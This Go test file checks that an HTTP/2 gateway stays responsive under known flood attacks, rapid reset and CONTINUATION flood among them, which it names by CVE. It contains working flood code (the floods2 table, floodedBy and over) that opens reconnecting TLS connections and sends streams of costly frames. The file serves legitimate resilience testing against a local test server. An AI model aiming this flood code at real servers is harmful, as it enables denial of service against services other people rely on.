package testenv

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood2 is what a client of HTTP/2 sends again and again that costs a server work and its sender nothing.
type flood2 struct {
	name string
	open bool // a request without its end comes first
	send func(f *http2.Framer, head []byte, stream uint32)
}

// floods2 are CVE-2019-9512 to 9518, CVE-2023-44487 and CVE-2023-45288, and their relatives.
var floods2 = []flood2{
	{"rapid reset", false, func(f *http2.Framer, head []byte, stream uint32) {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true})
		_ = f.WriteRSTStream(stream, http2.ErrCodeCancel)
	}},
	{"SETTINGS", false, func(f *http2.Framer, _ []byte, _ uint32) { _ = f.WriteSettings() }},
	{"PING", false, func(f *http2.Framer, _ []byte, _ uint32) { _ = f.WritePing(false, [8]byte{}) }},
	{"empty DATA", true, func(f *http2.Framer, _ []byte, _ uint32) { _ = f.WriteData(1, false, nil) }},
	{"PRIORITY", false, func(f *http2.Framer, _ []byte, stream uint32) {
		_ = f.WritePriority(stream, http2.PriorityParam{Weight: 1})
	}},
	{"WINDOW_UPDATE", false, func(f *http2.Framer, _ []byte, _ uint32) { _ = f.WriteWindowUpdate(0, 1) }},
	{"CONTINUATION", true, func(f *http2.Framer, head []byte, stream uint32) {
		if stream == 3 { // the first: a header block that never ends
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: head})
		}
		_ = f.WriteContinuation(3, false, []byte{0x00, 0x01, 'x', 0x01, 'y'})
	}},
}

// floodedBy sends the flood over connections of its own, a new one whenever one is closed, until stop is closed. It
// counts its connections.
func (g *gateway) floodedBy(fl flood2, count *atomic.Int64, stop <-chan struct{}) {
	var all sync.WaitGroup
	for range 4 {
		all.Go(func() {
			for {
				select {
				case <-stop:
					return
				default:
				}
				c, err := g.dialTLS(appHost, "h2")
				if err != nil {
					time.Sleep(5 * time.Millisecond) // it has no place for more
					continue
				}
				count.Add(1)
				fl.over(c, g.port, stop)
				_ = c.Close()
			}
		})
	}
	all.Wait()
}

// over sends the flood until the connection ends.
func (fl flood2) over(c *tls.Conn, port int, stop <-chan struct{}) {
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	go func() { _, _ = io.Copy(io.Discard, c) }()
	var head, b bytes.Buffer
	enc := hpack.NewEncoder(&head)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", appHost + ":" + strconv.Itoa(port)}, {":path", "/"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	f := http2.NewFramer(&b, nil)
	b.WriteString(http2.ClientPreface)
	_ = f.WriteSettings()
	if fl.open {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head.Bytes(), EndHeaders: true})
	}
	for stream := uint32(3); ; stream += 2 {
		fl.send(f, head.Bytes(), stream)
		if b.Len() < 16<<10 {
			continue
		}
		if _, err := c.Write(b.Bytes()); err != nil {
			return
		}
		b.Reset()
		select {
		case <-stop:
			return
		default:
		}
	}
}

// ordinary asks again and again for so long and returns what the answers took, sorted, and what was no good answer.
func (g *gateway) ordinary(t testing.TB, lasts time.Duration) (took []time.Duration, failures []string) {
	c := g.newClient()
	defer c.close()
	for end := time.Now().Add(lasts); time.Now().Before(end); time.Sleep(2 * time.Millisecond) {
		began := time.Now()
		a, err := c.do(request{Path: "/"})
		took = append(took, time.Since(began))
		if err != nil || a.Status != http.StatusOK {
			failures = append(failures, fmt.Sprint(err, a))
		}
	}
	slices.Sort(took)
	return took, failures
}

func percentile(sorted []time.Duration, p int) time.Duration {
	return sorted[min(len(sorted)*p/100, len(sorted)-1)].Round(100 * time.Microsecond)
}

// TestFloodsBesideOrdinaryClients has every flood come from four clients that connect again whenever they are cut, and an
// ordinary one ask beside them: it must be answered, always. What it waits is told and not judged, since the attackers take
// their part of the same machine. With `make attack` it takes longer and shows plain Caddy, too.
func TestFloodsBesideOrdinaryClients(t *testing.T) {
	lasts := time.Second
	be := startBackend(t)
	gates := map[string]*gateway{"gatehouse": startGateway(t, config{Backend: be.Listen, Site: "public /*"})}
	if os.Getenv("GATEHOUSE_ATTACK") != "" {
		lasts, gates["plain Caddy"] = 5*time.Second, startPlain(t, config{Backend: be.Listen})
	}
	for name, g := range gates {
		quiet, failures := g.ordinary(t, lasts)
		t.Logf("%s, quiet: p50 %v, p99 %v", name, percentile(quiet, 50), percentile(quiet, 99))
		for _, fl := range floods2 {
			var connections atomic.Int64
			stop, over := make(chan struct{}), make(chan struct{})
			go func() {
				g.floodedBy(fl, &connections, stop)
				close(over)
			}()
			took, failed := g.ordinary(t, lasts)
			failures = append(failures, failed...)
			t.Logf("%s, %s over %d connections: p50 %v, p99 %v of %d answers", name, fl.name, connections.Load(), percentile(took, 50), percentile(took, 99), len(took))
			if name == "gatehouse" {
				eventually(t, readyIn, fl.name+": the gateway closes a connection", func() bool { return connections.Load() > 4 })
			}
			close(stop)
			<-over
		}
		if name == "gatehouse" && len(failures) > 0 {
			t.Errorf("%d requests of the ordinary client were not answered: %s", len(failures), strings.Join(failures[:min(3, len(failures))], "; "))
		}
	}
}
